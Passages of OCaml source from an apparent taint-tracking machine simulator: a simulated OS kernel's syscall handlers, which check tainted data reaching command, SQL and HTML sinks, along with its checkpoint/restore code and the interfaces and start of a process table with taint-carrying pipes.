      (* a successful exec raises to unwind the replaced image; a normal
         return means the image was not found *)
      exec cpu ~prog ~args;
      ret_val cpu (-1L)

let do_wait t cpu =
  match t.wait_hook with
  | None -> ret_val cpu (-1L)
  | Some wait -> (
      match wait (Int64.to_int (arg cpu 0)) with
      | Wait_ready status ->
          charge t cpu ~bytes:0 ~per_byte:0;
          ret_val cpu status
      | Wait_none -> ret_val cpu (-1L)
      | Wait_block ->
          (* children still running: rewind onto the syscall and retry
             on the next quantum *)
          cpu.Cpu.ip <- cpu.Cpu.ip - 1)

let do_pipe t cpu =
  let buf = arg cpu 0 in
  let oid = alloc_obj t (Opipe (Pipe.create ())) in
  let rfd = alloc_fd t (Fpipe_r oid) in
  let wfd = alloc_fd t (Fpipe_w oid) in
  Shift_mem.Memory.write cpu.Cpu.mem buf ~width:8 (Int64.of_int rfd);
  Shift_mem.Memory.write cpu.Cpu.mem (Int64.add buf 8L) ~width:8
    (Int64.of_int wfd);
  charge t cpu ~bytes:0 ~per_byte:0;
  ret_val cpu 0L

let do_dup t cpu =
  let fd = Int64.to_int (arg cpu 0) in
  match entry_of t fd with
  | None -> ret_val cpu (-1L)
  | Some entry -> ret_val cpu (Int64.of_int (alloc_fd t entry))

let do_getpid t cpu = ret_val cpu (Int64.of_int t.cur.pid)

let do_getarg t cpu =
  let idx = Int64.to_int (arg cpu 0) in
  let buf = arg cpu 1 in
  match List.nth_opt t.cur.argv idx with
  | None -> ret_val cpu (-1L)
  | Some a ->
      let n = String.length a.a_bytes in
      Shift_mem.Memory.write_bytes cpu.Cpu.mem buf a.a_bytes;
      Shift_mem.Memory.write_u8 cpu.Cpu.mem (Int64.add buf (Int64.of_int n)) 0;
      deposit_shadow t cpu ~addr:buf ~taints:a.a_taints ~provs:a.a_provs ~lo:0
        ~n
        ~crumb:(Printf.sprintf "exec argv (pid %d, %s)" t.cur.pid t.cur.comm);
      (* The NUL terminator is the kernel's, not the argument's — but at
         word granularity it shares its grain with the last argv bytes
         unless it starts a fresh word, and word-level tracking must
         over-taint rather than erase the argument's tags. *)
      let nul = Int64.add buf (Int64.of_int n) in
      let aliases_argv =
        n > 0
        && t.gran = Shift_mem.Granularity.Word
        && not (Int64.equal (Int64.logand nul 7L) 0L)
      in
      if Tracking.sources_on t.tracking && not aliases_argv then
        Taint.set_range cpu.Cpu.mem t.gran ~addr:nul ~len:1 ~tainted:false;
      ret_val cpu (Int64.of_int n)

(* ---------- checkpoint/restore ---------- *)

type fd_state = {
  fd_content : string;
  fd_pos : int;
  fd_tainted : bool;
  fd_path : string option;
}

type obj_state = Os_stream of fd_state | Os_pipe of Pipe.state

type ctx_state = {
  cx_pid : int;
  cx_comm : string;
  cx_fds : (int * fd_entry) list;  (* sorted by fd *)
  cx_next_fd : int;
  cx_brk : int64;
  cx_crumbs : string list;  (* internal (newest-first) order *)
  cx_argv : arg_value list;
}

type dump = {
  d_files : (string * string * bool) list;
  d_objs : (int * int * obj_state) list;  (* oid, refs, state; sorted *)
  d_next_oid : int;
  d_ctx : ctx_state;  (* the base context *)
  d_pending : string list;
  d_output : string;
  d_html : string;
  d_sql : string list;  (* internal (newest-first) order *)
  d_commands : string list;  (* internal (newest-first) order *)
  d_alerts : Alert.t list;  (* internal (newest-first) order *)
}

let dump_ctx ctx =
  {
    cx_pid = ctx.pid;
    cx_comm = ctx.comm;
    cx_fds =
      Hashtbl.fold (fun fd entry acc -> (fd, entry) :: acc) ctx.fds []
      |> List.sort compare;
    cx_next_fd = ctx.next_fd;
    cx_brk = ctx.brk;
    cx_crumbs = ctx.crumbs;
    cx_argv = ctx.argv;
  }

(* Install a dumped context in place.  Descriptor entries are installed
   without touching reference counts: the object table dump already
   carries the aggregate counts. *)
let load_ctx_into ctx st =
  ctx.comm <- st.cx_comm;
  Hashtbl.reset ctx.fds;
  List.iter (fun (fd, entry) -> Hashtbl.replace ctx.fds fd entry) st.cx_fds;
  ctx.next_fd <- st.cx_next_fd;
  ctx.brk <- st.cx_brk;
  ctx.crumbs <- st.cx_crumbs;
  ctx.argv <- st.cx_argv

let ctx_of_state st =
  let ctx = make_ctx ~pid:st.cx_pid ~comm:st.cx_comm in
  load_ctx_into ctx st;
  ctx

let dump t =
  {
    d_files =
      Hashtbl.fold (fun path (content, tainted) acc -> (path, content, tainted) :: acc)
        t.files []
      |> List.sort compare;
    d_objs =
      Hashtbl.fold
        (fun oid o acc ->
          let st =
            match o.kind with
            | Ostream s ->
                Os_stream
                  {
                    fd_content = s.content;
                    fd_pos = s.pos;
                    fd_tainted = s.tainted;
                    fd_path = s.path;
                  }
            | Opipe p -> Os_pipe (Pipe.dump p)
          in
          (oid, o.refs, st) :: acc)
        t.objs []
      |> List.sort (fun (a, _, _) (b, _, _) -> compare a b);
    d_next_oid = t.next_oid;
    d_ctx = dump_ctx t.base;
    d_pending = List.of_seq (Queue.to_seq t.pending);
    d_output = Buffer.contents t.out_buf;
    d_html = Buffer.contents t.html_buf;
    d_sql = t.sql;
    d_commands = t.commands;
    d_alerts = t.alert_log;
  }

let undump t d =
  Hashtbl.reset t.files;
  List.iter (fun (path, content, tainted) -> Hashtbl.replace t.files path (content, tainted)) d.d_files;
  Hashtbl.reset t.objs;
  List.iter
    (fun (oid, refs, st) ->
      let kind =
        match st with
        | Os_stream s ->
            Ostream
              { content = s.fd_content; pos = s.fd_pos; tainted = s.fd_tainted; path = s.fd_path }
        | Os_pipe p -> Opipe (Pipe.of_state p)
      in
      Hashtbl.replace t.objs oid { refs; kind })
    d.d_objs;
  t.next_oid <- d.d_next_oid;
  load_ctx_into t.base d.d_ctx;
  t.cur <- t.base;
  Queue.clear t.pending;
  List.iter (fun req -> Queue.add req t.pending) d.d_pending;
  Buffer.clear t.out_buf;
  Buffer.add_string t.out_buf d.d_output;
  Buffer.clear t.html_buf;
  Buffer.add_string t.html_buf d.d_html;
  t.sql <- d.d_sql;
  t.commands <- d.d_commands;
  t.alert_log <- d.d_alerts

let handler t cpu =
  let n = Int64.to_int (Cpu.get_value cpu Reg.sysnum) in
  if n = Sysno.exit_ then raise (Cpu.Exit_requested (arg cpu 0))
  else if n = Sysno.read then do_read t cpu ~origin:"sys_read"
  else if n = Sysno.write then do_fd_write t cpu
  else if n = Sysno.open_ then do_open t cpu
  else if n = Sysno.close then do_close t cpu
  else if n = Sysno.recv then do_read t cpu ~origin:"sys_recv"
  else if n = Sysno.send then do_fd_write t cpu
  else if n = Sysno.sbrk then do_sbrk t cpu
  else if n = Sysno.sendfile then do_sendfile t cpu
  else if n = Sysno.system then
    do_string_sink t cpu ~syscall:"sys_system"
      ~check:(fun ~s ~tainted -> Policy.check_system t.pol ~cmd:s ~tainted)
      ~record:(fun s -> t.commands <- s :: t.commands)
  else if n = Sysno.sql_exec then
    do_string_sink t cpu ~syscall:"sys_sql_exec"
      ~check:(fun ~s ~tainted -> Policy.check_sql t.pol ~query:s ~tainted)
      ~record:(fun s -> t.sql <- s :: t.sql)
  else if n = Sysno.html_out then do_html_out t cpu
  else if n = Sysno.taint_set then do_taint_set t cpu
  else if n = Sysno.taint_chk then do_taint_chk t cpu
  else if n = Sysno.dbt_alert then
    raise_alert t
      (Alert.make ~policy:"L1"
         "software-DBT inline check: tainted data used as an address")
  else if n = Sysno.accept then do_accept t cpu
  else if n = Sysno.spawn then do_spawn t cpu
  else if n = Sysno.join then do_join t cpu
  else if n = Sysno.fork then do_fork t cpu
  else if n = Sysno.exec then do_exec t cpu
  else if n = Sysno.wait then do_wait t cpu
  else if n = Sysno.pipe then do_pipe t cpu
  else if n = Sysno.dup then do_dup t cpu
  else if n = Sysno.getpid then do_getpid t cpu
  else if n = Sysno.getarg then do_getarg t cpu
  else ret_val cpu (-1L)
