open Shift_isa
module Cpu = Shift_machine.Cpu
module Flowtrace = Shift_machine.Flowtrace
module Taint = Shift_mem.Taint
module Policy = Shift_policy.Policy
module Alert = Shift_policy.Alert
module Tracking = Shift_tracking.Tracking

type io_cost = { per_call : int; per_byte : int; sendfile_per_byte : int }

let default_io_cost = { per_call = 600; per_byte = 2; sendfile_per_byte = 1 }

type stream = {
  content : string;
  mutable pos : int;
  tainted : bool;
  path : string option;  (* None for sockets *)
}

type t = {
  pol : Policy.t;
  gran : Shift_mem.Granularity.t;
  io : io_cost;
  files : (string, string * bool) Hashtbl.t;  (* path -> content, tainted *)
  fds : (int, stream) Hashtbl.t;
  mutable next_fd : int;
  pending : string Queue.t;  (* queued network connections, FIFO *)
  out_buf : Buffer.t;
  html_buf : Buffer.t;
  mutable sql : string list;
  mutable commands : string list;
  mutable alert_log : Alert.t list;
  mutable brk : int64;
  (* thread support, wired up by the SMP runner; [None] = single
     threaded (spawn fails, join returns immediately) *)
  mutable spawn_hook : (Cpu.t -> entry:int64 -> arg:int64 -> int) option;
  mutable join_hook : (int -> int64 option) option;
  tracking : Tracking.t;
}

let create ?(policy = Policy.default) ?(gran = Shift_mem.Granularity.Word)
    ?(io_cost = default_io_cost) ?(tracking = Tracking.default) () =
  {
    pol = policy;
    gran;
    io = io_cost;
    files = Hashtbl.create 16;
    fds = Hashtbl.create 16;
    next_fd = 3;
    pending = Queue.create ();
    out_buf = Buffer.create 256;
    html_buf = Buffer.create 256;
    sql = [];
    commands = [];
    alert_log = [];
    brk = 0L; (* set on first sbrk from the constant below *)
    spawn_hook = None;
    join_hook = None;
    tracking;
  }

(* matches Layout.heap_base without depending on the compiler library *)
let heap_base = Shift_mem.Addr.in_region 1 0x2000_0000L

let policy t = t.pol

(* the OS resolves every path against a root working directory, so
   excess ".." components clamp at "/" as on a real system *)
let resolve path =
  let n = Policy.normalize_path ("/" ^ path) in
  if n = "/" then "/" else String.sub n 1 (String.length n - 1)

let add_file t ?tainted path content =
  let tainted = Option.value tainted ~default:t.pol.Policy.taint_files in
  Hashtbl.replace t.files (resolve path) (content, tainted)

(* O(1) enqueue: request setup used to rebuild the whole list per
   request, making N-request setups O(N^2) *)
let queue_request t req = Queue.add req t.pending

(* keyboard input, §3.3.1 source (3); fd 0, tainted unless said
   otherwise *)
let set_stdin t ?(tainted = true) content =
  Hashtbl.replace t.fds 0 { content; pos = 0; tainted; path = None }

let output t = Buffer.contents t.out_buf
let html_output t = Buffer.contents t.html_buf
let sql_queries t = List.rev t.sql
let system_commands t = List.rev t.commands
let alerts t = List.rev t.alert_log

let raise_alert t alert =
  match t.pol.Policy.action with
  | Policy.Halt_program -> raise (Alert.Violation alert)
  | Policy.Log_only -> t.alert_log <- alert :: t.alert_log

let arg cpu i = Cpu.get_value cpu (Reg.sysarg i)

let ret_val cpu v =
  Cpu.set_value cpu Reg.ret v;
  Cpu.set_nat cpu Reg.ret false

let charge t cpu ~bytes ~per_byte =
  Cpu.add_io_cycles cpu (t.io.per_call + (bytes * per_byte))

let taint_positions t cpu addr s =
  Taint.tainted_string_positions cpu.Cpu.mem t.gran addr s

(* Word-granularity tags smear to the enclosing 8-byte word, so the
   clean program text adjacent to a tainted fragment looks tainted too
   (and stale tags from reused stack words survive sub-word stores,
   which never clear at word granularity).  For the meta-character
   policies (H3-H5), which need positional precision, a position only
   counts when its whole +/-7-byte neighbourhood is tainted: boundary
   smear and isolated stale words are discounted, while genuine
   attacker fragments (always longer than a word) keep their interior.
   Byte granularity is exact and needs no filter. *)
let strong_taint_positions t cpu addr s =
  let raw = taint_positions t cpu addr s in
  match t.gran with
  | Shift_mem.Granularity.Byte -> raw
  | Shift_mem.Granularity.Word ->
      let n = String.length s in
      let tainted = Array.make (max n 1) false in
      List.iter (fun p -> if p < n then tainted.(p) <- true) raw;
      List.filter
        (fun p ->
          let ok = ref true in
          for q = max 0 (p - 7) to min (n - 1) (p + 7) do
            if not tainted.(q) then ok := false
          done;
          !ok)
        raw

let read_guest_string cpu addr = Shift_mem.Memory.read_cstring cpu.Cpu.mem addr

let alloc_fd t stream =
  let fd = t.next_fd in
  t.next_fd <- t.next_fd + 1;
  Hashtbl.replace t.fds fd stream;
  fd

(* When the run is traced, decorate a sink alert with the provenance
   chain of the tainted sink bytes — which input channel and offsets
   they came from — and log the sink event. *)
let enrich cpu ~addr ~positions ~syscall alert =
  let ft = cpu.Cpu.flowtrace in
  if not ft.Flowtrace.enabled then alert
  else begin
    let hops = Flowtrace.chain ft ~addr ~positions in
    Flowtrace.on_sink ft ~ip:cpu.Cpu.ip ~policy:alert.Alert.policy
      ~detail:syscall;
    Alert.with_chain alert
      (hops @ [ Printf.sprintf "sink %s via %s" alert.Alert.policy syscall ])
  end

let do_open t cpu =
  let path_addr = arg cpu 0 in
  let path = read_guest_string cpu path_addr in
  (if Tracking.checks_on t.tracking then
     let tainted = taint_positions t cpu path_addr path in
     match Policy.check_open t.pol ~path ~tainted with
     | Some a ->
         raise_alert t
           (enrich cpu ~addr:path_addr ~positions:tainted ~syscall:"sys_open" a)
     | None -> ());
  charge t cpu ~bytes:0 ~per_byte:0;
  match Hashtbl.find_opt t.files (resolve path) with
  | Some (content, file_tainted) ->
      ret_val cpu (Int64.of_int (alloc_fd t { content; pos = 0; tainted = file_tainted; path = Some path }))
  | None -> ret_val cpu (-1L)

let channel_of fd s =
  match s.path with
  | Some p -> "file:" ^ p
  | None -> if fd = 0 then "stdin" else "socket"

let do_read t cpu ~origin =
  let fd = Int64.to_int (arg cpu 0) in
  let buf = arg cpu 1 in
  let len = Int64.to_int (arg cpu 2) in
  match Hashtbl.find_opt t.fds fd with
  | None -> ret_val cpu (-1L)
  | Some s ->
      let n = min len (String.length s.content - s.pos) in
      let n = max n 0 in
      let chunk = String.sub s.content s.pos n in
      let offset = s.pos in
      s.pos <- s.pos + n;
      Shift_mem.Memory.write_bytes cpu.Cpu.mem buf chunk;
      (* the kernel marks incoming data according to the configured
         taint sources (paper §3.3.1); clean input clears stale tags in
         reused buffers *)
      if n > 0 then begin
        if Tracking.sources_on t.tracking then
          Taint.set_range cpu.Cpu.mem t.gran ~addr:buf ~len:n ~tainted:s.tainted;
        let ft = cpu.Cpu.flowtrace in
        if ft.Flowtrace.enabled then
          Flowtrace.on_input ft ~ip:cpu.Cpu.ip ~channel:(channel_of fd s)
            ~origin ~offset ~addr:buf ~len:n ~tainted:s.tainted
      end;
      charge t cpu ~bytes:n ~per_byte:t.io.per_byte;
      ret_val cpu (Int64.of_int n)

let do_fd_write t cpu =
  (* write(fd, buf, len) / send(sock, buf, len): fd ignored, everything
     lands in the output buffer *)
  let buf = arg cpu 1 in
  let len = Int64.to_int (arg cpu 2) in
  let bytes = Shift_mem.Memory.read_bytes cpu.Cpu.mem buf ~len in
  Buffer.add_string t.out_buf bytes;
  charge t cpu ~bytes:len ~per_byte:t.io.per_byte;
  ret_val cpu (Int64.of_int len)

let do_accept t cpu =
  charge t cpu ~bytes:0 ~per_byte:0;
  match Queue.take_opt t.pending with
  | None -> ret_val cpu (-1L)
  | Some req ->
      let fd =
        alloc_fd t { content = req; pos = 0; tainted = t.pol.Policy.taint_network; path = None }
      in
      ret_val cpu (Int64.of_int fd)

let do_sendfile t cpu =
  let fd = Int64.to_int (arg cpu 1) in
  let len = Int64.to_int (arg cpu 2) in
  match Hashtbl.find_opt t.fds fd with
  | None -> ret_val cpu (-1L)
  | Some s ->
      let n = max 0 (min len (String.length s.content - s.pos)) in
      Buffer.add_string t.out_buf (String.sub s.content s.pos n);
      s.pos <- s.pos + n;
      charge t cpu ~bytes:n ~per_byte:t.io.sendfile_per_byte;
      ret_val cpu (Int64.of_int n)

(* the heap may grow up to the top of its region's implemented offset
   bits; past that, tag-space translation would alias other regions *)
let heap_limit = Shift_mem.Addr.in_region 1 Shift_mem.Addr.impl_mask

let do_sbrk t cpu =
  if Int64.equal t.brk 0L then t.brk <- heap_base;
  let n = arg cpu 0 in
  let next = Int64.add t.brk n in
  (* reject growth (or shrinkage) that leaves the heap: below its base,
     past the region's implemented bits, or wrapped around — the break
     stays put and the guest sees the conventional -1 *)
  if
    Int64.compare next heap_base < 0
    || Int64.unsigned_compare next heap_limit > 0
  then ret_val cpu (-1L)
  else begin
    let old = t.brk in
    t.brk <- next;
    ret_val cpu old
  end

let do_string_sink t cpu ~check ~record ~syscall =
  let addr = arg cpu 0 in
  let s = read_guest_string cpu addr in
  (if Tracking.checks_on t.tracking then
     let tainted = strong_taint_positions t cpu addr s in
     match check ~s ~tainted with
     | Some a -> raise_alert t (enrich cpu ~addr ~positions:tainted ~syscall a)
     | None -> ());
  record s;
  charge t cpu ~bytes:String.(length s) ~per_byte:1;
  ret_val cpu 0L

let do_html_out t cpu =
  let buf = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  let html = Shift_mem.Memory.read_bytes cpu.Cpu.mem buf ~len in
  (if Tracking.checks_on t.tracking then
     let tainted = strong_taint_positions t cpu buf html in
     match Policy.check_html t.pol ~html ~tainted with
     | Some a ->
         raise_alert t
           (enrich cpu ~addr:buf ~positions:tainted ~syscall:"sys_html_out" a)
     | None -> ());
  Buffer.add_string t.html_buf html;
  charge t cpu ~bytes:len ~per_byte:t.io.per_byte;
  ret_val cpu (Int64.of_int len)

let do_taint_set t cpu =
  let addr = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  let flag = not (Int64.equal (arg cpu 2) 0L) in
  Taint.set_range cpu.Cpu.mem t.gran ~addr ~len ~tainted:flag;
  ret_val cpu 0L

let do_taint_chk t cpu =
  let addr = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  ret_val cpu (Int64.of_int (Taint.count_tainted cpu.Cpu.mem t.gran ~addr ~len))

let set_threads t ~spawn ~join =
  t.spawn_hook <- Some spawn;
  t.join_hook <- Some join

let do_spawn t cpu =
  match t.spawn_hook with
  | None -> ret_val cpu (-1L)
  | Some spawn -> ret_val cpu (Int64.of_int (spawn cpu ~entry:(arg cpu 0) ~arg:(arg cpu 1)))

let do_join t cpu =
  match t.join_hook with
  | None -> ret_val cpu (-1L)
  | Some join -> (
      match join (Int64.to_int (arg cpu 0)) with
      | Some v -> ret_val cpu v
      | None ->
          (* not finished: rewind onto the syscall so the hart retries
             on its next quantum (a busy wait at OS granularity) *)
          cpu.Cpu.ip <- cpu.Cpu.ip - 1)

(* ---------- checkpoint/restore ---------- *)

type fd_state = {
  fd_content : string;
  fd_pos : int;
  fd_tainted : bool;
  fd_path : string option;
}

type dump = {
  d_files : (string * string * bool) list;
  d_fds : (int * fd_state) list;
  d_next_fd : int;
  d_pending : string list;
  d_output : string;
  d_html : string;
  d_sql : string list;  (* internal (newest-first) order *)
  d_commands : string list;  (* internal (newest-first) order *)
  d_alerts : Alert.t list;  (* internal (newest-first) order *)
  d_brk : int64;
}

let dump t =
  {
    d_files =
      Hashtbl.fold (fun path (content, tainted) acc -> (path, content, tainted) :: acc)
        t.files []
      |> List.sort compare;
    d_fds =
      Hashtbl.fold
        (fun fd s acc ->
          ( fd,
            {
              fd_content = s.content;
              fd_pos = s.pos;
              fd_tainted = s.tainted;
              fd_path = s.path;
            } )
          :: acc)
        t.fds []
      |> List.sort compare;
    d_next_fd = t.next_fd;
    d_pending = List.of_seq (Queue.to_seq t.pending);
    d_output = Buffer.contents t.out_buf;
    d_html = Buffer.contents t.html_buf;
    d_sql = t.sql;
    d_commands = t.commands;
    d_alerts = t.alert_log;
    d_brk = t.brk;
  }

let undump t d =
  Hashtbl.reset t.files;
  List.iter (fun (path, content, tainted) -> Hashtbl.replace t.files path (content, tainted)) d.d_files;
  Hashtbl.reset t.fds;
  List.iter
    (fun (fd, s) ->
      Hashtbl.replace t.fds fd
        { content = s.fd_content; pos = s.fd_pos; tainted = s.fd_tainted; path = s.fd_path })
    d.d_fds;
  t.next_fd <- d.d_next_fd;
  Queue.clear t.pending;
  List.iter (fun req -> Queue.add req t.pending) d.d_pending;
  Buffer.clear t.out_buf;
  Buffer.add_string t.out_buf d.d_output;
  Buffer.clear t.html_buf;
  Buffer.add_string t.html_buf d.d_html;
  t.sql <- d.d_sql;
  t.commands <- d.d_commands;
  t.alert_log <- d.d_alerts;
  t.brk <- d.d_brk

let handler t cpu =
  let n = Int64.to_int (Cpu.get_value cpu Reg.sysnum) in
  if n = Sysno.exit_ then raise (Cpu.Exit_requested (arg cpu 0))
  else if n = Sysno.read then do_read t cpu ~origin:"sys_read"
  else if n = Sysno.write then do_fd_write t cpu
  else if n = Sysno.open_ then do_open t cpu
  else if n = Sysno.close then begin
    (* closing a descriptor that isn't open is an error, like the
       other fd syscalls: the table is untouched and the guest sees
       the conventional -1 *)
    let fd = Int64.to_int (arg cpu 0) in
    if Hashtbl.mem t.fds fd then begin
      Hashtbl.remove t.fds fd;
      ret_val cpu 0L
    end
    else ret_val cpu (-1L)
  end
  else if n = Sysno.recv then do_read t cpu ~origin:"sys_recv"
  else if n = Sysno.send then do_fd_write t cpu
  else if n = Sysno.sbrk then do_sbrk t cpu
  else if n = Sysno.sendfile then do_sendfile t cpu
  else if n = Sysno.system then
    do_string_sink t cpu ~syscall:"sys_system"
      ~check:(fun ~s ~tainted -> Policy.check_system t.pol ~cmd:s ~tainted)
      ~record:(fun s -> t.commands <- s :: t.commands)
  else if n = Sysno.sql_exec then
    do_string_sink t cpu ~syscall:"sys_sql_exec"
      ~check:(fun ~s ~tainted -> Policy.check_sql t.pol ~query:s ~tainted)
      ~record:(fun s -> t.sql <- s :: t.sql)
  else if n = Sysno.html_out then do_html_out t cpu
  else if n = Sysno.taint_set then do_taint_set t cpu
  else if n = Sysno.taint_chk then do_taint_chk t cpu
  else if n = Sysno.dbt_alert then
    raise_alert t
      (Alert.make ~policy:"L1"
         "software-DBT inline check: tainted data used as an address")
  else if n = Sysno.accept then do_accept t cpu
  else if n = Sysno.spawn then do_spawn t cpu
  else if n = Sysno.join then do_join t cpu
  else ret_val cpu (-1L)
