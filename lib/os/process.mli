(** The process table and round-robin scheduler.

    Grows the OS personality from one address space to many: each
    process owns a CPU, a private memory (and with it the taint
    bitmap), a private Flowtrace provenance shadow, and a {!World}
    kernel context (descriptor table, heap break, comm name).

    - [fork] deep-copies all four, so the child's taint and provenance
      are exactly the parent's at the fork point, and inherits the
      descriptor table (shared stream offsets and pipe ends, as on
      Unix).
    - [exec] replaces the CPU, address space and provenance shadow
      with a freshly loaded image while the kernel context survives;
      the sampled argv bytes — with their taint and provenance — are
      the only data that crosses, re-entering via [sys_getarg].
    - [wait] reaps finished children and folds their counters into the
      retired-stats accumulator.

    Scheduling mirrors {!Shift_machine.Smp}: a resumable round-robin
    round suspendable mid-quantum at any external budget boundary
    without perturbing the interleaving, which keeps multi-process
    runs deterministic under request multiplexing ([shiftc serve]) and
    checkpointing.  The whole table snapshots through the accessors
    below plus {!of_parts}. *)

module Cpu = Shift_machine.Cpu
module Fault = Shift_machine.Fault
module Stats = Shift_machine.Stats
module Provenance = Shift_mem.Provenance

exception Exec_switch
(** Raised out of the exec syscall to unwind the replaced image's
    in-flight superblock; handled by {!run_for}, never escapes. *)

type state =
  | Run
  | Zombie of int64  (** exited; status not yet reaped by the parent *)
  | Crashed of Fault.t * int

type t

val create :
  ?quantum:int ->
  ?comm:string ->
  world:World.t ->
  load:(comm:string -> Cpu.t option) ->
  Cpu.t ->
  t
(** A one-process table (pid 1 runs [cpu] in the world's base context,
    named [comm], default ["main"]) with the world's
    fork/exec/wait syscalls wired to it.  [load] materialises a fresh
    CPU for an exec'd program name ([None] = not found, exec returns
    -1); the default [quantum] is 50 instructions, as for SMP. *)

val run_for : t -> budget:int -> Cpu.status
(** Execute at most [budget] instructions across the table and
    suspend; pid 1 finishing (or crashing) terminates the machine. *)

val run : ?fuel:int -> t -> Cpu.outcome

val stats : t -> Stats.t
(** Fresh {!Stats.total} aggregate — live processes plus retired ones.
    Processes time-multiplex one simulated machine, so cycles add up
    (contrast {!Stats.concurrent} for SMP harts). *)

val superblock_stats : t -> Stats.superblocks

val cache_stats : t -> int * int
(** L1D [(hits, misses)] summed over live processes (a reaped child
    takes its cache counters with it, deterministically). *)

val pid1_cpu : t -> Cpu.t
(** The primary process's CPU (pid 1 is never reaped).
    @raise Invalid_argument if it is somehow gone. *)

val finished : t -> Cpu.outcome option
val live_count : t -> int

(** {1 Checkpoint/restore} *)

val quantum : t -> int

(** One process table entry as plain(ish) data; [p_image] is the name
    the process exec'd, [None] while it still runs the main image. *)
type part = {
  p_pid : int;
  p_parent : int;
  p_image : string option;
  p_state : state;
  p_cpu : Cpu.t;
  p_ctx : World.ctx;
  p_pmap : Provenance.t;
}

val parts : t -> part list
(** Every live table entry, in pid order. *)

val round : t -> (int * int) list
(** The resumable scheduler round as (pid, remaining quantum). *)

val retired : t -> Stats.t
val next_pid : t -> int

val of_parts :
  ?quantum:int ->
  world:World.t ->
  load:(comm:string -> Cpu.t option) ->
  procs:part list ->
  next_pid:int ->
  round:(int * int) list ->
  finished:Cpu.outcome option ->
  retired:Stats.t ->
  unit ->
  t
(** Rebuild a table from snapshotted parts (pid 1 first) and wire the
    world's process syscalls to it.
    @raise Invalid_argument on malformed parts. *)
