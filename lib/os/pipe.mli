(** Taint- and provenance-carrying pipe buffers.

    A pipe is a FIFO of write segments; each snapshots, at write time,
    the writer's bytes plus their per-byte taint bits and Flowtrace
    source ids, and the writer's pid/comm.  The reader consumes
    segments front to back and re-deposits the shadow state into its
    own address space — the cross-process tag propagation edge.

    End-of-file follows Unix: a read on an empty pipe blocks while any
    write end is open and returns 0 once the last writer closed.  The
    {!field-readers}/{!field-writers} counts are maintained by the
    {!World} fd layer across open/dup/fork-inherit/close. *)

type seg = {
  data : string;
  taints : bool array;  (** per byte, sampled from the writer's bitmap *)
  provs : int array;  (** per-byte source ids; 0 = no recorded source *)
  src_pid : int;
  src_comm : string;
  mutable off : int;  (** bytes of [data] already consumed *)
}

type t = {
  segs : seg Queue.t;
  mutable readers : int;
  mutable writers : int;
}

val create : unit -> t
(** An empty pipe with zero readers and writers: the fd layer owns the
    counts, bumping one end per descriptor it installs. *)

val write :
  t ->
  data:string ->
  taints:bool array ->
  provs:int array ->
  src_pid:int ->
  src_comm:string ->
  unit
(** Append a segment (no-op for empty data).
    @raise Invalid_argument when the shadow arrays don't match the
    data length. *)

val is_empty : t -> bool

val buffered : t -> int
(** Unconsumed bytes across all segments. *)

val read : t -> len:int -> (seg * int * int) list
(** Consume up to [len] bytes: [(seg, start, n)] views in FIFO order,
    each with [n > 0].  Fully-consumed segments are popped. *)

(** {1 Checkpoint/restore} *)

type seg_state = {
  sg_data : string;
  sg_taints : bool array;
  sg_provs : int array;
  sg_pid : int;
  sg_comm : string;
  sg_off : int;
}

type state = { st_segs : seg_state list; st_readers : int; st_writers : int }

val dump : t -> state
val of_state : state -> t
