(* The process table and round-robin scheduler.

   Each process owns a full machine context: a CPU (register file,
   pipeline, block cache), a private address space — which carries the
   taint bitmap, since tags live in guest memory — a private Flowtrace
   provenance shadow, and a kernel context (descriptor table, heap
   break, comm).  [fork] deep-copies all four, so the child's taint and
   provenance state is exactly the parent's at the fork point; [exec]
   replaces the image and address space while the kernel context (and
   with it the inherited descriptors) survives.

   Scheduling mirrors {!Shift_machine.Smp}: a resumable round-robin
   round whose head tracks the remainder of its quantum, so an
   external budget boundary can suspend mid-quantum and resume without
   perturbing the interleaving.  The one extra wrinkle is [exec]: the
   replaced image cannot finish the in-flight superblock, so the exec
   syscall raises {!Exec_switch} to unwind it, the process is charged
   its full allowance, and its turn ends — which keeps the
   interleaving independent of how the run is sliced. *)

module Cpu = Shift_machine.Cpu
module Superblock = Shift_machine.Superblock
module Fault = Shift_machine.Fault
module Stats = Shift_machine.Stats
module Pipeline = Shift_machine.Pipeline
module Flowtrace = Shift_machine.Flowtrace
module Memory = Shift_mem.Memory
module Provenance = Shift_mem.Provenance
module Reg = Shift_isa.Reg

exception Exec_switch

type state =
  | Run
  | Zombie of int64  (* exited; status not yet reaped by the parent *)
  | Crashed of Fault.t * int

type proc = {
  pid : int;
  parent : int;
  mutable image : string option;  (* exec'd program name; None = main *)
  mutable cpu : Cpu.t;  (* replaced wholesale by exec *)
  mutable state : state;
  ctx : World.ctx;
  mutable pmap : Provenance.t;
}

type t = {
  quantum : int;
  world : World.t;
  load : comm:string -> Cpu.t option;
  mutable procs : proc list;  (* kept in pid order *)
  mutable next_pid : int;
  (* resumable scheduler state, exactly as in Smp: the tail of the
     current round, the head's [int] being what remains of its
     quantum *)
  mutable round : (proc * int) list;
  mutable finished : Cpu.outcome option;
  (* counters of processes that no longer have a live CPU (reaped
     children, pre-exec images); [stats] adds the live ones on top *)
  mutable retired : Stats.t;
  (* the image an in-flight exec retires: its stats are folded into
     [retired] only after Exec_switch has unwound the superblock
     driver, which charges the block's instructions on the way out *)
  mutable retiring : Cpu.t option;
}

(* Make the world's syscalls and the current process's shadows line up
   before running it: install its kernel context and its provenance
   map (sources and the event ring stay shared machine-wide). *)
let switch_to t proc =
  World.use_ctx t.world proc.ctx;
  let ft = proc.cpu.Cpu.flowtrace in
  if ft.Flowtrace.enabled then Flowtrace.set_provenance ft proc.pmap

let current t =
  match World.current_ctx t.world with
  | ctx -> (
      match
        List.find_opt (fun p -> p.pid = World.ctx_pid ctx) t.procs
      with
      | Some p -> p
      | None -> invalid_arg "Process: no process owns the current context")

(* ---------- fork ---------- *)

let copy_call_stack src dst =
  Stack.clear dst;
  List.iter
    (fun frame -> Stack.push frame dst)
    (List.rev (List.of_seq (Stack.to_seq src)))

let fork_cpu (parent : Cpu.t) =
  (* private copy of the address space — and, because tags live in
     guest memory, of the whole taint bitmap *)
  let mem = Memory.clone parent.Cpu.mem in
  let cpu = Cpu.create ~mem parent.Cpu.program in
  Array.blit parent.Cpu.values 0 cpu.Cpu.values 0 (Array.length parent.Cpu.values);
  Array.blit parent.Cpu.nats 0 cpu.Cpu.nats 0 (Array.length parent.Cpu.nats);
